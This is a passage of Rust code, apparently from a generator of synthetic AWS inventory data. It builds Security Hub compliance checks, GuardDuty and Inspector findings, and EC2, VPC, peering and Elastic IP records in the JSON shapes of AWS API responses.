            let Some(site) = estate.site_of(bucket.account, &bucket.region) else { continue };
            let arn = format!("arn:aws:s3:::{}", bucket.name);
            check(site, "S3.8", bucket.block != Some([true; 4]), arn.clone(), &bucket.region);
            if bucket.public {
                check(site, "S3.2", true, arn, &bucket.region);
            }
        }
        for instance in &estate.instances {
            let site = at(&estate.sites, instance.site, "site")?;
            let account = at(&estate.accounts, site.account, "account")?;
            let arn = format!("arn:aws:ec2:{}:{}:instance/{}", site.region, account.id, instance.id);
            check(instance.site, "EC2.8", instance.http_tokens != "required", arn, &site.region);
        }
        for (s, site) in estate.sites.iter().enumerate() {
            let account = at(&estate.accounts, site.account, "account")?;
            for group in site.vpcs.iter().flat_map(|v| &v.groups) {
                let open: Vec<&Rule> = group
                    .rules
                    .iter()
                    .filter(|r| !r.egress && matches!(&r.source, Source::Ipv4(c) if c == "0.0.0.0/0"))
                    .collect();
                let risky =
                    open.iter().any(|r| r.protocol == "-1" || [22, 3389].iter().any(|p| r.from <= *p && *p <= r.to));
                let unauthorized = open.iter().any(|r| r.protocol == "-1" || r.from != 80 && r.from != 443);
                let arn = format!("arn:aws:ec2:{}:{}:security-group/{}", site.region, account.id, group.id);
                check(s, "EC2.19", risky, arn.clone(), &site.region);
                check(s, "EC2.18", unauthorized, arn, &site.region);
            }
        }
        for db in &estate.databases {
            let site = at(&estate.sites, db.site, "site")?;
            let account = at(&estate.accounts, site.account, "account")?;
            let arn = format!("arn:aws:rds:{}:{}:db:{}", site.region, account.id, db.id);
            check(db.site, "RDS.3", !db.encrypted, arn.clone(), &site.region);
            check(db.site, "RDS.2", db.public, arn.clone(), &site.region);
            check(db.site, "RDS.11", db.backup_days == 0, arn, &site.region);
            for (snapshot, restore) in &db.manual_snapshots {
                let arn = format!("arn:aws:rds:{}:{}:snapshot:{}", site.region, account.id, snapshot);
                check(db.site, "RDS.1", restore.iter().any(|r| r == "all"), arn, &site.region);
            }
        }
        for lb in estate.balancers.iter().filter(|lb| lb.internet_facing) {
            let region = at(&estate.sites, lb.site, "site")?.region.clone();
            check(lb.site, "ELB.1", !lb.https, lb.arn.clone(), &region);
        }
        self.shuffle(&mut failed);
        self.shuffle(&mut passed);
        for c in failed.into_iter().chain(passed).take(securityhub_total) {
            let account = estate.account_of_site(c.site)?.id.clone();
            let finding = self.asff(&c, &account)?;
            if let Some(site) = out.get_mut(c.site) {
                site.securityhub.push(finding);
            }
        }

        let n = estate.instances.len();
        let exposed: Vec<usize> =
            (0..n).filter(|&i| estate.instances.get(i).is_some_and(|x| x.public_ip.is_some())).collect();
        for _ in 0..guardduty_total {
            let i = if !exposed.is_empty() && self.chance(0.5) {
                exposed[self.below(exposed.len())]
            } else {
                self.below(n)
            };
            let instance = at(&estate.instances, i, "instance")?;
            let finding = self.guardduty(estate, instance)?;
            if let Some(site) = out.get_mut(instance.site) {
                site.guardduty.push(finding);
            }
        }
        for _ in 0..inspector_total {
            let (site, finding) = if estate.repositories.is_empty() || self.chance(0.7) {
                let instance = at(&estate.instances, self.below(n), "instance")?;
                (instance.site, self.inspector_ec2(estate, instance)?)
            } else {
                let repository = at(&estate.repositories, self.below(estate.repositories.len()), "repository")?;
                (repository.site, self.inspector_ecr(estate, repository)?)
            };
            if let Some(site) = out.get_mut(site) {
                site.inspector.push(finding);
            }
        }
        Ok(out)
    }

    fn asff(&mut self, c: &Check, account: &str) -> Result<Value> {
        let (_, title, severity, resource_type) =
            CONTROLS.iter().find(|(id, ..)| *id == c.control).copied().unwrap_or(("", "", "LOW", "Other"));
        let (label, normalized) = if c.failed {
            (
                severity,
                match severity {
                    "CRITICAL" => 90,
                    "HIGH" => 70,
                    "MEDIUM" => 40,
                    _ => 1,
                },
            )
        } else {
            ("INFORMATIONAL", 0)
        };
        let first = BASE_TIME - self.between(2 * DAY, 300 * DAY);
        let updated = BASE_TIME - self.between(HOUR, DAY);
        let control = c.control;
        let region = &c.region;
        Ok(json!({
            "SchemaVersion": "2018-10-08",
            "Id": format!("arn:aws:securityhub:{region}:{account}:security-control/{control}/finding/{}", self.uuid()),
            "ProductArn": format!("arn:aws:securityhub:{region}::product/aws/securityhub"),
            "ProductName": "Security Hub",
            "CompanyName": "AWS",
            "Region": region,
            "GeneratorId": format!("security-control/{control}"),
            "AwsAccountId": account,
            "Types": ["Software and Configuration Checks/Industry and Regulatory Standards"],
            "FirstObservedAt": aws_time(first),
            "LastObservedAt": aws_time(updated),
            "CreatedAt": aws_time(first),
            "UpdatedAt": aws_time(updated),
            "Severity": {"Label": label, "Normalized": normalized, "Original": label},
            "Title": title,
            "Description": format!("This control checks: {title}."),
            "Remediation": {"Recommendation": {
                "Text": "For information on how to correct this issue, consult the AWS Security Hub controls documentation.",
                "Url": format!("https://docs.aws.amazon.com/console/securityhub/{control}/remediation"),
            }},
            "ProductFields": {"RelatedAWSResources:0/type": "AWS::Config::ConfigRule", "aws/securityhub/ProductName": "Security Hub"},
            "Resources": [{"Type": resource_type, "Id": c.resource, "Partition": "aws", "Region": region}],
            "Compliance": {
                "Status": if c.failed { "FAILED" } else { "PASSED" },
                "SecurityControlId": control,
                "AssociatedStandards": [{"StandardsId": "standards/aws-foundational-security-best-practices/v/1.0.0"}],
            },
            "WorkflowState": "NEW",
            "Workflow": {"Status": if c.failed { "NEW" } else { "RESOLVED" }},
            "RecordState": "ACTIVE",
        }))
    }

    fn guardduty(&mut self, estate: &Estate, instance: &Instance) -> Result<Value> {
        let site = at(&estate.sites, instance.site, "site")?;
        let account = at(&estate.accounts, site.account, "account")?;
        let (kind, description, base_severity) =
            self.pick(GUARDDUTY_TYPES).unwrap_or(("Recon:EC2/PortProbeUnprotectedPort", "", 2.0));
        let id = self.hex(32);
        let detector = self.hex(32);
        let first = BASE_TIME - self.between(HOUR, 20 * DAY);
        let last = first + self.between(60, (BASE_TIME - first).max(61));
        let title = description.replace("{id}", &instance.id);
        Ok(json!({
            "AccountId": account.id,
            "Arn": format!("arn:aws:guardduty:{}:{}:detector/{detector}/finding/{id}", site.region, account.id),
            "CreatedAt": format!("{}.000Z", civil(first)),
            "Description": title,
            "Id": id,
            "Partition": "aws",
            "Region": site.region,
            "Resource": {
                "InstanceDetails": {
                    "AvailabilityZone": format!("{}{}", site.region, AZ_LETTERS.get(instance.subnet % 3).copied().unwrap_or("a")),
                    "ImageId": site.images.get(instance.role.tag()).cloned().unwrap_or_default(),
                    "InstanceId": instance.id,
                    "InstanceState": "running",
                    "InstanceType": instance.instance_type,
                    "LaunchTime": format!("{}.000Z", civil(instance.launch)),
                    "NetworkInterfaces": [{
                        "NetworkInterfaceId": instance.eni,
                        "PrivateIpAddress": dotted(instance.private_ip),
                        "PublicIp": instance.public_ip.map(dotted),
                        "VpcId": at(&site.vpcs, instance.vpc, "VPC")?.id,
                    }],
                    "Tags": [{"Key": "Name", "Value": instance.name}, {"Key": "Role", "Value": instance.role.tag()}],
                },
                "ResourceType": "Instance",
            },
            "SchemaVersion": "2.0",
            "Service": {
                "Archived": false,
                "Count": self.between(1, 400),
                "DetectorId": detector,
                "EventFirstSeen": format!("{}.000Z", civil(first)),
                "EventLastSeen": format!("{}.000Z", civil(last)),
                "ResourceRole": "TARGET",
                "ServiceName": "guardduty",
            },
            "Severity": base_severity,
            "Title": title,
            "Type": kind,
            "UpdatedAt": format!("{}.000Z", civil(last)),
        }))
    }

    fn vulnerability(&mut self) -> (&'static str, &'static str, &'static str, &'static str, f64, &'static str) {
        self.pick(VULNERABILITIES).unwrap_or(("CVE-2023-5363", "openssl", "3.0.7-24", "3.0.7-25", 7.5, "HIGH"))
    }

    fn inspector_ec2(&mut self, estate: &Estate, instance: &Instance) -> Result<Value> {
        let site = at(&estate.sites, instance.site, "site")?;
        let account = at(&estate.accounts, site.account, "account")?;
        let resource = json!({
            "type": "AWS_EC2_INSTANCE",
            "id": instance.id,
            "partition": "aws",
            "region": site.region,
            "details": {"awsEc2Instance": {
                "imageId": site.images.get(instance.role.tag()).cloned().unwrap_or_default(),
                "ipV4Addresses": [dotted(instance.private_ip)],
                "launchedAt": aws_time(instance.launch),
                "platform": if instance.windows { "WINDOWS_SERVER_2022" } else { "AMAZON_LINUX_2023" },
                "subnetId": at(&at(&site.vpcs, instance.vpc, "VPC")?.subnets, instance.subnet, "subnet")?.id,
                "type": instance.instance_type,
                "vpcId": at(&site.vpcs, instance.vpc, "VPC")?.id,
            }},
        });
        self.inspector(&account.id, &site.region, resource, "OS")
    }

    fn inspector_ecr(&mut self, estate: &Estate, repository: &Repository) -> Result<Value> {
        let site = at(&estate.sites, repository.site, "site")?;
        let account = at(&estate.accounts, site.account, "account")?;
        let digest = format!("sha256:{}", self.hex(64));
        let resource = json!({
            "type": "AWS_ECR_CONTAINER_IMAGE",
            "id": format!("arn:aws:ecr:{}:{}:repository/{}/{digest}", site.region, account.id, repository.name),
            "partition": "aws",
            "region": site.region,
            "details": {"awsEcrContainerImage": {
                "architecture": "amd64",
                "imageHash": digest,
                "imageTags": ["latest"],
                "platform": "DEBIAN_12",
                "pushedAt": aws_time(BASE_TIME - self.between(DAY, 90 * DAY)),
                "registry": account.id,
                "repositoryName": repository.name,
            }},
        });
        self.inspector(&account.id, &site.region, resource, "OS")
    }

    fn inspector(&mut self, account: &str, region: &str, resource: Value, manager: &str) -> Result<Value> {
        let (cve, package, version, fixed, score, severity) = self.vulnerability();
        let first = BASE_TIME - self.between(DAY, 120 * DAY);
        let last = BASE_TIME - self.between(HOUR, DAY);
        Ok(json!({
            "awsAccountId": account,
            "description": format!("{cve} in {package} {version}."),
            "findingArn": format!("arn:aws:inspector2:{region}:{account}:finding/{}", self.hex(32)),
            "firstObservedAt": aws_time(first),
            "lastObservedAt": aws_time(last),
            "updatedAt": aws_time(last),
            "inspectorScore": score,
            "packageVulnerabilityDetails": {
                "vulnerabilityId": cve,
                "source": "NVD",
                "sourceUrl": format!("https://nvd.nist.gov/vuln/detail/{cve}"),
                "vulnerablePackages": [{"name": package, "version": version, "fixedInVersion": fixed, "packageManager": manager}],
                "cvss": [{"baseScore": score, "scoringVector": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", "source": "NVD", "version": "3.1"}],
                "referenceUrls": [],
            },
            "remediation": {"recommendation": {"text": format!("Update {package} to {fixed} or later.")}},
            "resources": [resource],
            "severity": severity,
            "status": "ACTIVE",
            "title": format!("{cve} - {package}"),
            "type": "PACKAGE_VULNERABILITY",
            "fixAvailable": "YES",
            "exploitAvailable": if score >= 8.0 { "YES" } else { "NO" },
        }))
    }
}

impl Gen {
    /// Every regional file of one account in one region.
    fn write_site(
        &mut self,
        estate: &Estate,
        s: usize,
        site: &Site,
        findings: &[SiteFindings],
        w: &mut Writer,
    ) -> Result<()> {
        use aws::{ec2_instances as ec2i, ec2_network as net};
        let account = at(&estate.accounts, site.account, "account")?;
        let dir = w.aws_dir(&account.id, &site.region);
        let region = site.region.as_str();
        let owner = account.id.as_str();

        // Instances: reservations in pages of at most 1,000 instances.
        let mut reservations: Vec<(String, Vec<Value>)> = Vec::new();
        let mut interfaces = Vec::new();
        for instance in estate.instances.iter().filter(|i| i.site == s) {
            let (record, eni) = self.instance_json(estate, account, site, instance)?;
            interfaces.push(eni);
            match reservations.last_mut() {
                Some((id, items)) if *id == instance.reservation => items.push(record),
                _ => reservations.push((instance.reservation.clone(), vec![record])),
            }
        }
        let mut pages = Vec::new();
        let mut page: Vec<Value> = Vec::new();
        let mut in_page = 0;
        for (id, items) in reservations {
            if in_page + items.len() > page_size(&ec2i::INSTANCES) && !page.is_empty() {
                pages.push(std::mem::take(&mut page));
                in_page = 0;
            }
            in_page += items.len();
            page.push(json!({"Groups": [], "Instances": items, "OwnerId": owner, "ReservationId": id}));
        }
        pages.push(page);
        let count = pages.len();
        let mut wrapped = Vec::with_capacity(count);
        for (k, reservations) in pages.into_iter().enumerate() {
            let next = (k + 1 < count).then(|| self.hex(48));
            wrapped.push(envelope(&ec2i::INSTANCES, reservations, next));
        }
        w.pages(&dir, &ec2i::INSTANCES, wrapped)?;

        for vpc in &site.vpcs {
            for nat in &vpc.nats {
                let subnet = at(&vpc.subnets, nat.subnet, "subnet")?;
                interfaces.push(json!({
                    "Association": {"AllocationId": nat.allocation, "AssociationId": nat.association, "IpOwnerId": "amazon",
                                    "PublicDnsName": "", "PublicIp": dotted(nat.public_ip)},
                    "AvailabilityZone": subnet.az,
                    "Description": format!("Interface for NAT Gateway {}", nat.id),
                    "Groups": [],
                    "InterfaceType": "nat_gateway",
                    "Ipv6Addresses": [],
                    "MacAddress": mac_text(&self.mac(), ":"),
                    "NetworkInterfaceId": nat.eni,
                    "OwnerId": owner,
                    "PrivateDnsName": private_dns(nat.private_ip, region),
                    "PrivateIpAddress": dotted(nat.private_ip),
                    "PrivateIpAddresses": [{"Primary": true, "PrivateDnsName": private_dns(nat.private_ip, region), "PrivateIpAddress": dotted(nat.private_ip)}],
                    "RequesterId": "441315466386",
                    "RequesterManaged": true,
                    "SourceDestCheck": false,
                    "Status": "in-use",
                    "SubnetId": subnet.id,
                    "TagSet": [],
                    "VpcId": vpc.id,
                }));
            }
        }
        // The interfaces RDS and Elastic Load Balancing create for their databases and nodes.
        let main_vpc = at(&site.vpcs, 0, "VPC")?;
        let db_groups = group_refs(main_vpc.group("rds").or_else(|| main_vpc.group("default")));
        for (d, db) in estate.databases.iter().enumerate().filter(|(_, db)| db.site == s) {
            let interface = at(&estate.network.databases, d, "database interface")?;
            let created = db.created;
            let managed = Managed { requester: "amazon-rds", description: "RDSNetworkInterface".into(), created };
            interfaces.push(managed_interface_json(interface, main_vpc, owner, region, &db_groups, &managed)?);
        }
        for (l, lb) in estate.balancers.iter().enumerate().filter(|(_, lb)| lb.site == s) {
            let vpc = at(&site.vpcs, lb.vpc, "VPC")?;
            let groups = group_refs(vpc.group(if lb.internet_facing { "alb-public" } else { "alb-internal" }));
            // `ELB app/<name>/<id>`: the load balancer's ARN after `loadbalancer/`.
            let description = format!("ELB {}", lb.arn.split_once(":loadbalancer/").map_or("", |(_, tail)| tail));
            let managed = Managed { requester: "amazon-elb", description, created: lb.created };
            for interface in at(&estate.network.balancers, l, "load balancer interfaces")? {
                interfaces.push(managed_interface_json(interface, vpc, owner, region, &groups, &managed)?);
            }
        }
        let pages = self.paged(&ec2i::NETWORK_INTERFACES, interfaces);
        w.pages(&dir, &ec2i::NETWORK_INTERFACES, pages)?;

        // The network.
        let env = account.env.name();
        let mut vpcs = Vec::new();
        let mut subnets = Vec::new();
        let mut gateways = Vec::new();
        let mut nats = Vec::new();
        let mut groups = Vec::new();
        let mut rules = Vec::new();
        let mut acls = Vec::new();
        let mut tables = Vec::new();
        for vpc in &site.vpcs {
            let vpc_tags =
                if vpc.is_default { json!([]) } else { aws_tags(&[("Name", &vpc.name), ("Environment", env)]) };
            vpcs.push(json!({
                "CidrBlock": vpc.cidr,
                "CidrBlockAssociationSet": [{"AssociationId": format!("vpc-cidr-assoc-{}", &vpc.id[4..]), "CidrBlock": vpc.cidr, "CidrBlockState": {"State": "associated"}}],
                "DhcpOptionsId": format!("dopt-{}", &vpc.id[4..12]),
                "InstanceTenancy": "default",
                "IsDefault": vpc.is_default,
                "OwnerId": owner,
                "State": "available",
                "Tags": vpc_tags,
                "VpcId": vpc.id,
            }));
            for subnet in &vpc.subnets {
                // Named subnets carry the tags the AWS load balancer controller looks for.
                let tags: Vec<(&str, &str)> = match (subnet.name.is_empty(), subnet.public) {
                    (true, _) => Vec::new(),
                    (false, true) => vec![("Name", &subnet.name), ("kubernetes.io/role/elb", "1")],
                    (false, false) => vec![("Name", &subnet.name), ("kubernetes.io/role/internal-elb", "1")],
                };
                subnets.push(json!({
                    "AssignIpv6AddressOnCreation": false,
                    "AvailabilityZone": subnet.az,
                    "AvailabilityZoneId": format!("{}-az{}", short_region(region), subnet.az.chars().last().map_or(1, |c| (c as u32) - ('a' as u32) + 1)),
                    "AvailableIpAddressCount": subnet.size() - 5 - subnet.used,
                    "CidrBlock": subnet.cidr(),
                    "DefaultForAz": vpc.is_default,
                    "Ipv6CidrBlockAssociationSet": [],
                    "MapPublicIpOnLaunch": subnet.public,
                    "OwnerId": owner,
                    "State": "available",
                    "SubnetArn": format!("arn:aws:ec2:{region}:{owner}:subnet/{}", subnet.id),
                    "SubnetId": subnet.id,
                    "Tags": aws_tags(&tags),
                    "VpcId": vpc.id,
                }));
            }
            if let Some(igw) = &vpc.igw {
                let tags = if vpc.is_default { json!([]) } else { aws_tags(&[("Name", &format!("{}-igw", vpc.name))]) };
                gateways.push(json!({"Attachments": [{"State": "available", "VpcId": vpc.id}], "InternetGatewayId": igw, "OwnerId": owner, "Tags": tags}));
            }
            for nat in &vpc.nats {
                let subnet = at(&vpc.subnets, nat.subnet, "subnet")?;
                nats.push(json!({
                    "ConnectivityType": "public",
                    "CreateTime": aws_time(vpc.created + DAY),
                    "NatGatewayAddresses": [{"AllocationId": nat.allocation, "AssociationId": nat.association, "IsPrimary": true,
                                             "NetworkInterfaceId": nat.eni, "PrivateIp": dotted(nat.private_ip), "PublicIp": dotted(nat.public_ip), "Status": "succeeded"}],
                    "NatGatewayId": nat.id,
                    "State": "available",
                    "SubnetId": subnet.id,
                    "Tags": aws_tags(&[("Name", &format!("{}-nat-{}", vpc.name, subnet.az))]),
                    "VpcId": vpc.id,
                }));
            }
            for group in &vpc.groups {
                groups.push(group_json(group, owner, &vpc.id, env));
                for rule in &group.rules {
                    rules.push(rule_json(rule, group, owner, region));
                }
            }
            for acl in &vpc.acls {
                acls.push(acl_json(acl, owner, &vpc.id));
            }
            for table in &vpc.route_tables {
                tables.push(route_table_json(table, owner, vpc, &site.prefix_lists, &site.vpc_endpoint));
            }
        }
        for (table, records) in [
            (&net::VPCS, vpcs),
            (&net::SUBNETS, subnets),
            (&net::INTERNET_GATEWAYS, gateways),
            (&net::NAT_GATEWAYS, nats),
            (&net::SECURITY_GROUPS, groups),
            (&net::SECURITY_GROUP_RULES, rules),
            (&net::NETWORK_ACLS, acls),
            (&net::ROUTE_TABLES, tables),
        ] {
            let pages = self.paged(table, records);
            w.pages(&dir, table, pages)?;
        }
        let peerings = estate
            .network
            .peerings
            .iter()
            .filter(|p| p.requester.0 == s || p.accepter.0 == s)
            .map(|p| peering_json(estate, p))
            .collect::<Result<Vec<_>>>()?;
        let pages = self.paged(&net::VPC_PEERING_CONNECTIONS, peerings);
        w.pages(&dir, &net::VPC_PEERING_CONNECTIONS, pages)?;
        w.single(&dir, &net::ADDRESSES, None, &json!({"Addresses": addresses_json(estate, s, site, owner)?}))?;
        let lists = site
            .prefix_lists
            .iter()
            .map(|list| {
                let mut record = json!({
                    "AddressFamily": "IPv4",
                    "OwnerId": list.owner,
                    "PrefixListArn": format!("arn:aws:ec2:{region}:{}:prefix-list/{}", if list.owner == "AWS" { "aws" } else { owner }, list.id),
                    "PrefixListId": list.id,
                    "PrefixListName": list.name,
                    "State": "create-complete",
                    "Tags": [],
                });
                if let Some(max) = list.max_entries {
                    record["MaxEntries"] = json!(max);
                    record["Version"] = json!(3);
                }
                record
            })
            .collect();
        let pages = self.paged(&net::MANAGED_PREFIX_LISTS, lists);
        w.pages(&dir, &net::MANAGED_PREFIX_LISTS, pages)?;
        for list in &site.prefix_lists {
            let entries: Vec<Value> = list
                .entries
                .iter()
                .map(|(cidr, description)| {
                    if description.is_empty() {
                        json!({"Cidr": cidr})
                    } else {
                        json!({"Cidr": cidr, "Description": description})
                    }
                })
                .collect();
            w.single(&dir, &net::PREFIX_LIST_ENTRIES, Some(&list.id), &json!({"Entries": entries}))?;
        }

        self.write_rds(estate, s, site, account, &dir, w)?;
        self.write_elb(estate, s, site, &dir, w)?;

        let site_findings = at(findings, s, "site findings")?;
        for (table, records) in [
            (&aws::securityhub::FINDINGS, site_findings.securityhub.clone()),
            (&aws::guardduty::FINDINGS, site_findings.guardduty.clone()),
            (&aws::inspector::FINDINGS, site_findings.inspector.clone()),
        ] {
            let pages = self.paged(table, records);
            w.pages(&dir, table, pages)?;
        }
        let repositories = estate
            .repositories
            .iter()
            .filter(|r| r.site == s)
            .map(|r| {
                let encryption = if r.kms {
                    json!({"encryptionType": "KMS", "kmsKey": format!("arn:aws:kms:{region}:{owner}:key/{}", self.uuid())})
                } else {
                    json!({"encryptionType": "AES256"})
                };
                json!({
                    "createdAt": aws_time(r.created),
                    "encryptionConfiguration": encryption,
                    "imageScanningConfiguration": {"scanOnPush": r.scan_on_push},
                    "imageTagMutability": if r.mutable { "MUTABLE" } else { "IMMUTABLE" },
                    "registryId": owner,
                    "repositoryArn": format!("arn:aws:ecr:{region}:{owner}:repository/{}", r.name),
                    "repositoryName": r.name,
                    "repositoryUri": format!("{owner}.dkr.ecr.{region}.amazonaws.com/{}", r.name),
                })
            })
            .collect();
        let pages = self.paged(&aws::ecr::REPOSITORIES, repositories);
        w.pages(&dir, &aws::ecr::REPOSITORIES, pages)
    }

    /// One instance as DescribeInstances prints it, and its primary interface as
    /// DescribeNetworkInterfaces prints it.
    fn instance_json(
        &mut self,
        estate: &Estate,
        account: &Account,
        site: &Site,
        instance: &Instance,
    ) -> Result<(Value, Value)> {
        let region = site.region.as_str();
        let owner = account.id.as_str();
        let vpc = at(&site.vpcs, instance.vpc, "VPC")?;
        let subnet = at(&vpc.subnets, instance.subnet, "subnet")?;
        let groups: Vec<Value> =
            estate.instance_groups(instance)?.iter().map(|g| json!({"GroupId": g.id, "GroupName": g.name})).collect();
        let dns = private_dns(instance.private_ip, region);
        let mut addresses =
            vec![json!({"Primary": true, "PrivateDnsName": dns, "PrivateIpAddress": dotted(instance.private_ip)})];
        for ip in &instance.secondary_ips {
            addresses.push(
                json!({"Primary": false, "PrivateDnsName": private_dns(*ip, region), "PrivateIpAddress": dotted(*ip)}),
            );
        }
        let public_dns = instance.public_ip.map(|ip| public_dns(ip, region));
        // An Elastic IP's owner is the account; an address assigned at launch is Amazon's.
        let eip = estate.network.instance_eips.get(&instance.id);
        let ip_owner = if eip.is_some() { owner } else { "amazon" };
        let association = instance
            .public_ip
            .map(|ip| json!({"IpOwnerId": ip_owner, "PublicDnsName": public_dns, "PublicIp": dotted(ip)}));
        if let (Some(association), Some(first)) = (&association, addresses.first_mut()) {
            first["Association"] = association.clone();
        }
        let mac = mac_text(&instance.mac, ":");
        let mut interface = json!({
            "Attachment": {"AttachTime": aws_time(instance.launch), "AttachmentId": instance.attachment, "DeleteOnTermination": true,
                           "DeviceIndex": 0, "NetworkCardIndex": 0, "Status": "attached"},
            "Description": "",
            "Groups": groups,
            "InterfaceType": "interface",
            "Ipv6Addresses": [],
            "MacAddress": mac,
            "NetworkInterfaceId": instance.eni,
            "OwnerId": owner,
            "PrivateDnsName": dns,
            "PrivateIpAddress": dotted(instance.private_ip),
            "PrivateIpAddresses": addresses,
            "SourceDestCheck": true,
            "Status": "in-use",
            "SubnetId": subnet.id,
            "VpcId": vpc.id,
        });
        if let Some(association) = &association {
            interface["Association"] = association.clone();
        }
        let env = account.env.name();
        let mut tags: Vec<(String, String)> = vec![
            ("Name".into(), instance.name.clone()),
            ("Environment".into(), env.to_owned()),
            ("Role".into(), instance.role.tag().to_owned()),
            ("Owner".into(), format!("team-{}", instance.role.tag())),
        ];
        if let Some(asg) = &instance.asg {
            tags.push(("aws:autoscaling:groupName".into(), asg.clone()));
        }
        if let (Some(cluster), Some(group)) = (&site.eks_cluster, &instance.node_group) {
            tags.push(("eks:cluster-name".into(), cluster.clone()));
            tags.push(("eks:nodegroup-name".into(), group.clone()));
            tags.push((format!("kubernetes.io/cluster/{cluster}"), "owned".into()));
        }
        let tag_list = Value::Array(tags.iter().map(|(k, v)| json!({"Key": k, "Value": v})).collect());
        let image = if instance.windows { site.images.get("windows") } else { site.images.get(instance.role.tag()) };
        let profile_id = self.upper_id("AIPA", 17)?;
        let mut record = json!({
            "AmiLaunchIndex": 0,
            "Architecture": "x86_64",
            "BlockDeviceMappings": [{"DeviceName": if instance.windows { "/dev/sda1" } else { "/dev/xvda" },
                                     "Ebs": {"AttachTime": aws_time(instance.launch), "DeleteOnTermination": true, "Status": "attached",
                                             "VolumeId": self.id("vol-0", 16)?}}],
            "CapacityReservationSpecification": {"CapacityReservationPreference": "open"},
            "ClientToken": "",
            "CpuOptions": {"CoreCount": 2, "ThreadsPerCore": 2},
            "EbsOptimized": true,
            "EnaSupport": true,
            "Hypervisor": "xen",
            "IamInstanceProfile": {"Arn": format!("arn:aws:iam::{owner}:instance-profile/{env}-{}", instance.role.tag()), "Id": profile_id},
            "ImageId": image.cloned().unwrap_or_default(),
            "InstanceId": instance.id,
            "InstanceType": instance.instance_type,
            "LaunchTime": aws_time(instance.launch),
            "MetadataOptions": {"HttpEndpoint": "enabled", "HttpPutResponseHopLimit": 2, "HttpTokens": instance.http_tokens,
                                "InstanceMetadataTags": "disabled", "State": "applied"},
            "Monitoring": {"State": "disabled"},
            "NetworkInterfaces": [interface.clone()],
            "Placement": {"AvailabilityZone": subnet.az, "GroupName": "", "Tenancy": "default"},
            "PlatformDetails": if instance.windows { "Windows" } else { "Linux/UNIX" },
            "PrivateDnsName": dns,
            "PrivateIpAddress": dotted(instance.private_ip),
            "ProductCodes": [],
            "PublicDnsName": public_dns.clone().unwrap_or_default(),
            "RootDeviceName": if instance.windows { "/dev/sda1" } else { "/dev/xvda" },
            "RootDeviceType": "ebs",
            "SecurityGroups": interface["Groups"].clone(),
            "SourceDestCheck": true,
            "State": {"Code": 16, "Name": "running"},
            "StateTransitionReason": "",
            "SubnetId": subnet.id,
            "Tags": tag_list,
            "UsageOperation": if instance.windows { "RunInstances:0002" } else { "RunInstances" },
            "VirtualizationType": "hvm",
            "VpcId": vpc.id,
        });
        if instance.windows {
            record["Platform"] = json!("windows");
        }
        if let Some(ip) = instance.public_ip {
            record["PublicIpAddress"] = json!(dotted(ip));
        }
        // DescribeNetworkInterfaces names the instance in the attachment and lists the zone.
        interface["Attachment"]["InstanceId"] = json!(instance.id);
        interface["Attachment"]["InstanceOwnerId"] = json!(owner);
        interface["AvailabilityZone"] = json!(subnet.az);
        interface["RequesterManaged"] = json!(false);
        interface["TagSet"] = json!([]);
        // (DescribeNetworkInterfaces also names the Elastic IP's allocation and association.)
        if let (Some((allocation, association)), Some(_)) = (eip, instance.public_ip) {
            interface["Association"]["AllocationId"] = json!(allocation);
            interface["Association"]["AssociationId"] = json!(association);
        }
        Ok((record, interface))
    }
}

/// Either side of a peering as DescribeVpcPeeringConnections prints it (a pending request's
/// accepter shows no CIDR yet).
fn peering_side(estate: &Estate, (s, v): (usize, usize), with_cidr: bool) -> Result<Value> {
    let site = at(&estate.sites, s, "site")?;
    let vpc = at(&site.vpcs, v, "VPC")?;
    let mut side = json!({"OwnerId": estate.account_of_site(s)?.id, "Region": site.region, "VpcId": vpc.id});
    if with_cidr {
        side["CidrBlock"] = json!(vpc.cidr);
        side["CidrBlockSet"] = json!([{"CidrBlock": vpc.cidr}]);
        side["PeeringOptions"] = json!({"AllowDnsResolutionFromRemoteVpc": false,
                                        "AllowEgressFromLocalClassicLinkToRemoteVpc": false,
                                        "AllowEgressFromLocalVpcToRemoteClassicLink": false});
    }
    Ok(side)
}

fn peering_json(estate: &Estate, peering: &Peering) -> Result<Value> {
    let accepter_account = estate.account_of_site(peering.accepter.0)?.id.clone();
    let name = format!(
        "{}-to-{}",
        at(&at(&estate.sites, peering.requester.0, "site")?.vpcs, peering.requester.1, "VPC")?.name,
        at(&at(&estate.sites, peering.accepter.0, "site")?.vpcs, peering.accepter.1, "VPC")?.name
    );
    let mut record = json!({
        "AccepterVpcInfo": peering_side(estate, peering.accepter, peering.active)?,
        "RequesterVpcInfo": peering_side(estate, peering.requester, true)?,
        "Status": if peering.active {
            json!({"Code": "active", "Message": "Active"})
        } else {
            json!({"Code": "pending-acceptance", "Message": format!("Pending Acceptance by {accepter_account}")})
        },
        "Tags": aws_tags(&[("Name", &name)]),
        "VpcPeeringConnectionId": peering.id,
    });
    if !peering.active {
        // An unanswered request expires a week after it was made.
        record["ExpirationTime"] = json!(aws_time(peering.created + 7 * DAY));
    }
    Ok(record)
}

/// The Elastic IPs of one site: the NAT gateways', the bastions' and the spare ones.
fn addresses_json(estate: &Estate, s: usize, site: &Site, owner: &str) -> Result<Vec<Value>> {
    let region = site.region.as_str();
    let mut out = Vec::new();
    for vpc in &site.vpcs {
        for nat in &vpc.nats {
            out.push(json!({
                "AllocationId": nat.allocation, "AssociationId": nat.association, "Domain": "vpc",
                "NetworkBorderGroup": region, "NetworkInterfaceId": nat.eni, "NetworkInterfaceOwnerId": owner,
                "PrivateIpAddress": dotted(nat.private_ip), "PublicIp": dotted(nat.public_ip), "PublicIpv4Pool": "amazon",
                "Tags": aws_tags(&[("Name", &format!("{}-nat", vpc.name))]),
            }));
        }
    }
    for instance in estate.instances.iter().filter(|i| i.site == s) {
        if let (Some((allocation, association)), Some(ip)) =
            (estate.network.instance_eips.get(&instance.id), instance.public_ip)
        {
            out.push(json!({
                "AllocationId": allocation, "AssociationId": association, "Domain": "vpc", "InstanceId": instance.id,
                "NetworkBorderGroup": region, "NetworkInterfaceId": instance.eni, "NetworkInterfaceOwnerId": owner,
                "PrivateIpAddress": dotted(instance.private_ip), "PublicIp": dotted(ip), "PublicIpv4Pool": "amazon",
                "Tags": aws_tags(&[("Name", &instance.name)]),
            }));
        }
    }
    let account = estate.account_of_site(s)?;
    for (allocation, ip) in at(&estate.network.spare_eips, s, "spare addresses")? {
        out.push(json!({
            "AllocationId": allocation, "Domain": "vpc", "NetworkBorderGroup": region, "PublicIp": dotted(*ip),
            "PublicIpv4Pool": "amazon", "Tags": aws_tags(&[("Name", &format!("{}-reserved", account.name))]),
        }));
    }
